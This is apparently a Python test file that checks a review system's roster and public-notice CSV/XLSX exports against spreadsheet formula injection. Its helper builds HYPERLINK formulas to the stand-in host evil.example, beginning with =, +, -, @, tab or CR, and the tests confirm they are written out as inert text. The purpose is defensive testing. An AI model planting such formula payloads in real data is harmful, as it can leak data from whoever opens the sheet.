"""Exports safe to open (issue 19): every cell an applicant or unit controls that starts with `=`,
`+`, `-`, `@`, tab or CR is written as text. Both exports (花名册, the city's case list, and the
unit's 公示表) are built from cases whose every applicant-controlled field is hostile, written as CSV
and XLSX and read back: openpyxl reads a string cell holding the original text, the CSV cell is the
text after an apostrophe, and every applicant-controlled column is checked."""
import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from contracts.application import Route
from services.review.adapters.exports import FORMULA_STARTS, to_csv, to_xlsx
from services.review.domain import commands as c
from services.review.domain.roster import NOTICE_HEADERS, ROSTER_HEADERS, notice_rows, roster_rows

from .builders import PLAN, Story, people_of, summary

# The columns whose text comes from an applicant or a unit (the rest are numbers, dates, the plan's words).
APPLICANT_COLUMNS = {"花名册": ["姓名", "工作单位", "评审专业"],
                     "公示表": ["姓名", "工作单位", "从事专业", "现任职务及时间", "代表性业绩", "标志性业绩"]}


def _hostile(start: str, what: str) -> str:
    return f'{start}HYPERLINK("http://evil.example/?{what}","{what}")'


def _exports(start: str) -> dict[str, tuple[list, list[str]]]:
    s = summary(name=_hostile(start, "name"), specialty=_hostile(start, "specialty"), route=Route.NORMAL)
    s = s.model_copy(update={"unit_name": _hostile(start, "unit"), "current_title": _hostile(start, "title"),
                             "current_title_qualified_on": date(2012, 11, 20),
                             "cited_achievements": [_hostile(start, "cited"), "镜湖大桥"],
                             "landmark_achievements": [_hostile(start, "landmark")]})
    at_city = Story(s).at_city().case
    noticed = Story(s).unit_passed()
    noticed.do(c.StartPublicNotice(noticed.who.unit, noticed.id, date(2020, 7, 6)))
    return {"花名册": (roster_rows([at_city], PLAN, people=people_of([at_city])), ROSTER_HEADERS),
            "公示表": (notice_rows([noticed.case], "unit-yc-1", {}, people_of([noticed.case])), NOTICE_HEADERS)}


@pytest.mark.parametrize("start", FORMULA_STARTS)
@pytest.mark.parametrize("export", ["花名册", "公示表"])
def test_every_applicant_controlled_cell_starting_like_a_formula_reads_back_as_its_text(start, export):
    rows, headers = _exports(start)[export]
    [row] = rows
    columns = [headers.index(name) for name in APPLICANT_COLUMNS[export]]
    assert all(str(row[i]).startswith(start) for i in columns)  # each column really is hostile here

    sheet = load_workbook(io.BytesIO(to_xlsx(rows, headers, export))).active
    cells = list(sheet.iter_rows(min_row=2, max_row=2))[0]
    for i in columns:
        assert cells[i].data_type == "s", (headers[i], cells[i].data_type)
        # XML reads a carriage return as a line feed (its end-of-line rule): the text is otherwise kept
        assert cells[i].value == row[i].replace("\r", "\n")

    read = list(csv.reader(io.StringIO(to_csv(rows, headers).decode("utf-8-sig"))))
    assert read[0] == headers
    for i in columns:
        assert read[1][i] == "'" + row[i], headers[i]


def test_ordinary_text_and_numbers_are_written_unchanged():
    rows = [[1, "张三", "某公司", -3, None]]
    assert list(csv.reader(io.StringIO(to_csv(rows, list("abcde")).decode("utf-8-sig"))))[1] == \
        ["1", "张三", "某公司", "-3", ""]
    sheet = load_workbook(io.BytesIO(to_xlsx(rows, list("abcde"), "t"))).active
    assert [c.value for c in sheet[2]] == [1, "张三", "某公司", -3, None]
